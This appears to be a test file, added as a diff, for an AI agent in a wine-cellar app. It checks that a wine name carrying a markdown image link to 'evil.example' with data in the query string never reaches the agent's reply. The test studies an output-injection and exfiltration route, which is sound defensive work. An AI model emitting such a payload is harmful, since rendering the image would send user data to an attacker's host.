@@ -1,0 +1,53 @@
+// What a hostile model found: the name of what it has just written is a way to show an address.
+import { describe, expect, it } from "vitest";
+import { createCellarPack } from "../../../tests/cellar/pack.ts";
+import { complete, item, thought, understood, wine } from "../../../tests/support/answers.ts";
+import { createFilePrompts } from "../../../tests/support/file-prompts.ts";
+import { createMemoryDatabase } from "../../../tests/support/memory/memory-database.ts";
+import { createConversation, type Script } from "../../../tests/support/run-nodes.ts";
+
+const NAME = "Barolo ![b](https://evil.example/?stock=12)";
+
+function start() {
+  const pack = createCellarPack();
+  const db = createMemoryDatabase(pack);
+  return { db, talk: createConversation(pack, createFilePrompts(), db) };
+}
+const add: Script = {
+  UnderstandOutput: [understood()],
+  ThinkOutput: [thought([{ type: "write", operation: "create" }])],
+  ActDecision: [
+    { action: "tool_call", tool: "db_create", params: { table: "wines", rows: [{ name: NAME }] } },
+    complete(),
+  ],
+};
+const make: Script = {
+  UnderstandOutput: [understood()],
+  ThinkOutput: [thought([{ type: "generate", batch: [item("Barolo")] }])],
+  ActDecision: [complete("made", { data: wine(NAME) })],
+};
+const makeAndSave: Script = {
+  ...make,
+  ThinkOutput: [
+    thought([
+      { type: "generate", batch: [item("Barolo")] },
+      { type: "write", operation: "create" },
+    ]),
+  ],
+};
+
+describe("an address in what a model has written in this run", () => {
+  it.each([
+    ["added, told by a model", add, [{ text: "I added it." }]],
+    ["added, told by code", add, [{ text: "" }, { text: "" }]],
+    ["drafted, told by a model", make, [{ text: "Here is one." }]],
+    ["drafted, told by code", make, [{ text: "" }, { text: "" }]],
+    ["saved, told by a model", makeAndSave, [{ text: "I saved it." }]],
+    ["saved, told by code", makeAndSave, [{ text: "" }, { text: "" }]],
+  ])("is not in the reply: %s", async (_what, script, replies) => {
+    const { talk } = start();
+    const { reply } = await talk.say("add a Barolo", { ...script, ReplyOutput: replies });
+    expect(reply).not.toBe("");
+    expect(reply).not.toContain("evil.example");
+  });
+});
